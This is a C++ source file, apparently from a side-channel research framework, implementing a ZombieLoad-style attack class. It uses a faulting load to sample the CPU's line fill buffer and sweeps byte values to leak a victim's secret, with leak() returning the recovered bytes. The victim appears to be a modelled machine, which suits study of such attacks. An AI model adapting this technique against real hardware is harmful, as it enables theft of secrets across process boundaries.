#include "core/attacks/zombieload.h"

namespace whisper::core {

TetZombieload::TetZombieload(os::Machine& m, Options opt)
    : ChannelAttack(m, "zbl", opt, Polarity::Min, /*default_batches=*/6),
      gadget_(make_tet_gadget(
          {.window = opt.window.value_or(preferred_window(m.config())),
           .source = SecretSource::FaultingLoad})) {}

void TetZombieload::sweep(std::uint64_t victim_byte, int /*batch*/,
                          AttackResult& r) {
  std::array<std::uint64_t, isa::kNumRegs> regs{};
  // Faulting load on an unmapped address: the assisted load samples the LFB.
  regs[static_cast<std::size_t>(isa::Reg::RCX)] = kNullProbeAddress;
  for (int tv = 0; tv <= 255; ++tv) {
    // The victim touches its secret; the value is now in flight.
    m_.victim_touch(static_cast<std::uint8_t>(victim_byte));
    regs[static_cast<std::size_t>(isa::Reg::RBX)] =
        static_cast<std::uint64_t>(tv);
    analyzer_.add(tv, run_tote(m_, gadget_, regs));
    ++r.probes;
  }
}

void TetZombieload::execute(std::span<const std::uint8_t> payload,
                            AttackResult& r) {
  r.bytes.reserve(payload.size());
  for (const std::uint8_t b : payload) r.bytes.push_back(decode_byte(b, r));
}

std::vector<std::uint8_t> TetZombieload::leak(
    std::span<const std::uint8_t> victim_stream) {
  return run(victim_stream).bytes;
}

}  // namespace whisper::core
